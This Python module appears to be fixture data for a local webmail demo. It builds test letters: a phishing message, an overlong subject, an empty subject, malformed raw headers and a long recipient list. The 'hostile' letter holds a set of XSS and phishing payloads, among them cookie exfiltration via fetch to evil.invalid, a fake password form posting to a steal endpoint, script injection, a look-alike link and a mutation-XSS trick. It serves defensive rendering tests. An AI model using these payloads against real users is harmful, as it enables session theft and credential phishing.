"""Mail that tries something, and mail that is slightly broken: it must open and harm nobody."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import datetime, timedelta
from email.headerregistry import Address
from email.utils import format_datetime

from deploy.local.demo.compose import ALICE, BOB, DAVE, Letter, letter

A, B = ALICE.addr_spec, BOB.addr_spec


def letters(now: datetime) -> Iterator[Letter]:
    yield _hostile(now)
    yield _long(now)
    yield _no_subject(now)
    yield _broken(now)
    yield _many(now)


def _hostile(now: datetime) -> Letter:
    return letter(
        "hostile",
        now - timedelta(hours=13),
        Address("Your bank (really)", addr_spec="security@bank.invalid"),
        ALICE,
        "Your account <b>will be closed</b> <script>alert(1)</script>",
        "Sign in at once.\n",
        html="""<html><head><meta http-equiv="refresh" content="0;url=https://evil.invalid/">
<base href="https://evil.invalid/"><link rel="stylesheet" href="https://evil.invalid/x.css">
<style>@import url(https://evil.invalid/y.css); body{background:url(//evil.invalid/z)}</style></head>
<body onload="alert(document.cookie)"><script>parent.location='https://evil.invalid/'</script>
<div style="position:fixed;inset:0;background:white;z-index:99999"><h1>Session ended</h1>
<form action="https://evil.invalid/steal" method="post"><input name="password" type="password"
autofocus onfocus="alert(2)"><button>Sign in</button></form></div>
<img src=x onerror="fetch('https://evil.invalid/?'+document.cookie)"><svg onload="alert(3)"></svg>
<iframe srcdoc="<script>parent.alert(4)</script>"></iframe><a href="javascript:alert(5)">Statement</a>
<a href="https://bank.example.evil.invalid/">https://bank.example/</a>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(6)&gt;">
</body></html>""",
        unread_by=(A,),
    )


def _long(now: datetime) -> Letter:
    return letter(
        "long-subject",
        now - timedelta(days=16),
        DAVE,
        (ALICE, BOB),
        "About the mortar, the sand, the water, the weather, the wheelbarrow that was borrowed and not returned, "
        "the other wheelbarrow, and the question who ordered four hundred bricks more than the drawing has, "
        "which we should discuss before somebody orders more",
        "See above.\n\n"
        + "\n\n".join(
            f"{number}. " + "The wall is long and so is this message, which is here to be scrolled. " * 4
            for number in range(1, 31)
        ),
    )


def _no_subject(now: datetime) -> Letter:
    return letter("no-subject", now - timedelta(days=18), DAVE, ALICE, "", "Call me.\n")


def _broken(now: datetime) -> Letter:
    """No MIME headers, 8-bit text in no declared charset, a date that is none, a folded nonsense header."""
    made = letter("broken", now - timedelta(days=25), DAVE, ALICE, "broken", "")
    made.raw = (
        b"From: Old Machine <machine@castle.example>\r\n"
        b"To: alice@example.org\r\n"
        b"Subject: Temp\xe9rature de la cave\r\n"
        b"Date: yesterday, I think\r\n"
        b"X-Nonsense\r\n"
        b"Message-ID: <broken@castle.example>\r\n"
        b"\r\n"
        b"La cave est \xe0 11 degr\xe9s.\r\n"
    )
    return made


def _many(now: datetime) -> Letter:
    """More recipients than anybody wants to read."""
    when = now - timedelta(days=27)
    made = letter(
        "many",
        when,
        Address("Castle office", addr_spec="office@castle.example"),
        (ALICE, BOB, *(Address(f"Guest {n}", addr_spec=f"guest{n}@example.net") for n in range(1, 41))),
        "Opening hours",
        "From next month on the castle opens at nine.\n",
        places={B: "Archive"},
    )
    made.message.replace_header("Date", format_datetime(when))
    return made
